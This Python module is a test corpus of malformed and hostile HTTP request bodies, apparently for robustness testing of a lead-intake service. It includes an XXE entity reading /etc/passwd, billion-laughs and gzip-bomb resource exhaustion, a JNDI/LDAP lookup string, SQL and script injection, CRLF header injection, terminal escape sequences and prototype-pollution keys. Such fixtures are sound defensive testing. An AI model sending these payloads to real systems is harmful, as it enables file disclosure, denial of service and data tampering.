"""Payloads that were made to do harm, or that break in the hands of whoever reads them.

Each holds `CANARY`: what of it gets into a log or a metric is found there.
"""

import gzip
import json
from typing import NamedTuple

CANARY = "canary4711"
_MARK = CANARY.encode()
_JSON, _FORM, _XML = "application/json", "application/x-www-form-urlencoded", "text/xml"

_TERMINAL = "\x1b[2J\x1b]0;owned\x07\x1b[31m\x9b1m\u202egnp.exe\u2066\u200b\u2028\r\x08\x7f"
_MARKUP = "<script>alert(1)</script>[bold]x[/bold]{{7*7}}${jndi:ldap://x}'; DROP TABLE leads;--"
_BILLION_LAUGHS = "<!DOCTYPE l [<!ENTITY a0 'ha'>{}]><lead><name>&a9;{}</name></lead>".format(
    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)), CANARY
)
_OUTSIDE = f"""<?xml version="1.0"?><!DOCTYPE lead [<!ENTITY x SYSTEM "file:///etc/passwd">
<!ENTITY % p SYSTEM "http://127.0.0.1:9/p"> %p;]><lead><name>&x;{CANARY}</name></lead>"""


class Payload(NamedTuple):
    """A body and how it is declared."""

    body: bytes
    content_type: str = _JSON
    query: bytes = b""
    header: bytes = b""
    """A further header line, with its end."""


def _with_name(text: str) -> bytes:
    return json.dumps({"name": text + CANARY, "email": f"{CANARY}@example.com"}).encode()


CORPUS: dict[str, Payload] = {
    "deep objects": Payload(b'{"data":' * 30_000 + b'"' + _MARK + b'"' + b"}" * 30_000),
    "deep lists that never close": Payload(b"[" * 100_000 + _MARK),
    "a huge text": Payload(b'{"name":"' + _MARK * 60_000 + b'"}'),
    "a huge number": Payload(b'{"id":' + b"9" * 5_000 + b',"name":"' + _MARK + b'"}'),
    "a key without end": Payload(b'{"' + b"k" * 300_000 + _MARK),
    "many keys": Payload(b"{" + b",".join(b'"%s%d":1' % (_MARK, n) for n in range(20_000)) + b"}"),
    "a key twice": Payload(b'{"name":"first","name":"%s","name":null}' % _MARK),
    "not a number": Payload(b'{"name":"%s","price":NaN,"id":Infinity,"x":-Infinity}' % _MARK),
    "exponents": Payload(b'{"name":"%s","price":1e999999,"id":-1e-99999}' % _MARK),
    "lone surrogates": Payload(b'{"name":"\\ud800%s","email":"\\udfff@example.com"}' % _MARK),
    "surrogates in bytes": Payload(b'{"name":"\xed\xa0\x80%s"}' % _MARK),
    "NUL": Payload(b'{"name":"a\x00%s\\u0000","phone":"614\x005550142"}' % _MARK),
    "only NULs": Payload(b"\x00" * 5_000 + _MARK, "application/octet-stream"),
    "invalid UTF-8": Payload(b'{"name":"\xff\xfe\xc0\xaf%s"}' % _MARK),
    "UTF-16": Payload(json.dumps({"name": CANARY}).encode("utf-16")),
    "UTF-16 without a mark": Payload(json.dumps({"name": CANARY}).encode("utf-16-le")),
    "half of UTF-32": Payload(json.dumps({"name": CANARY}).encode("utf-32")[:-3]),
    "a byte order mark": Payload(b"\xef\xbb\xbf" + _with_name("")),
    "cut off": Payload(_with_name("Ada Example")[:-9]),
    "an unknown charset": Payload(_with_name("x"), 'text/plain; charset="unicode_escape"'),
    "a content type that is none": Payload(_with_name("y"), "\xff/;;charset=;boundary="),
    "billion laughs": Payload(_BILLION_LAUGHS.encode(), _XML),
    "entities from outside": Payload(_OUTSIDE.encode(), _XML),
    "XML without end": Payload(b"<a>" * 20_000 + _MARK, _XML),
    "XML attributes": Payload(
        b"<a %s='%s'/>" % (b"b" * 9_000, _MARK) + b"<" * 5_000, "application/x-adf+xml"
    ),
    "a gzip bomb": Payload(
        gzip.compress(b" " * 20_000_000 + _MARK), header=b"Content-Encoding: gzip\r\n"
    ),
    "gzip that is cut off": Payload(gzip.compress(_with_name("z") * 50)[:-20]),
    "a form of ten thousand fields": Payload(
        b"&".join(b"%s%d=%d" % (_MARK, n, n) for n in range(10_000)), _FORM
    ),
    "a form of percent signs": Payload(b"name=%&%ZZ=%00&%%=" + _MARK + b"%ED%A0%80%FF", _FORM),
    "a form key without end": Payload(b"a[" * 30_000 + b"]=" + _MARK, _FORM),
    "multipart without end": Payload(
        b'--b\r\nContent-Disposition: form-data; name="name"\r\n\r\n' + _MARK * 3_000,
        "multipart/form-data; boundary=b",
    ),
    "multipart of many parts": Payload(
        b'--b\r\nX: y; name="%s"\r\n\r\n1\r\n' % _MARK * 3_000, "multipart/form-data; boundary=b"
    ),
    "multipart without boundary": Payload(b"--\r\n" + _MARK, "multipart/form-data"),
    "control and direction characters": Payload(_with_name(_TERMINAL)),
    "raw control characters": Payload(
        ('{"name":"' + _TERMINAL + CANARY + '","email":"\x1b[31m@x.example"}').encode()
    ),
    "control bytes alone": Payload(bytes(range(256)) * 40 + _MARK, "application/octet-stream"),
    "SQL and markup": Payload(_with_name(_MARKUP)),
    "SQL in a key": Payload(json.dumps({_MARKUP: CANARY, "name": "' OR 1=1 --"}).encode()),
    "line ends in values": Payload(
        json.dumps({"name": f"a\r\nX-Injected: {CANARY}\r\n\r\n", "id": "1\r\n2"}).encode()
    ),
    "header values from outside": Payload(
        _with_name("h"), header=b"X-Name: \x80\xff\xc3\xa9 %0d%0aX: y <b>" + _MARK + b"\r\n"
    ),
    "a query of everything": Payload(
        b"", query=b"?name=%1B[31m" + _MARK + b"&x=%00&%ff=%&;=&&a[]=1&a[]=2&__proto__=1"
    ),
    "prototype and reserved words": Payload(
        json.dumps({"__proto__": {"name": CANARY}, "constructor": 1, "__class__": "x"}).encode()
    ),
    "fields that are not texts": Payload(
        json.dumps(
            {
                "name": {"a": [CANARY]},
                "phone": [[[["6145550142"]]]],
                "email": {"value": {}},
                "id": 1.5,
            }
        ).encode()
    ),
    "texts in texts in texts": Payload(
        json.dumps(
            {"data": json.dumps({"data": json.dumps({"data": json.dumps(CANARY)})})}
        ).encode()
    ),
    "white space": Payload(b" \r\n\t" * 20_000 + _MARK, "text/plain"),
    "a bare word": Payload(_MARK, ""),
}
